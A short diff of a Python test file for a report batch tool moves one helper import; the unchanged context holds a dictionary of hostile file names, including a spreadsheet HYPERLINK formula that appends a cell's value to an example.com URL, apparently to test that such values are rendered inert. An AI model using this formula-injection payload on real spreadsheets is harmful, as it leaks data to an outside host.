@@ -16,7 +16,8 @@ from batch_helpers import SAMPLES
 from reportkit.batch.manifest import inert_cell
 from reportkit.pdf import find_soffice
 
-from .batch_processes import assert_no_traceback, run_batch_cli, tree_hashes
+from .batch_processes import assert_no_traceback, run_batch_cli
+from .conftest import tree_hashes
 
 HOSTILE_NAMES = {
     "khu-vuc-01.yaml": '=HYPERLINK("http://example.com/?leak="&A1,"bấm vào đây")',
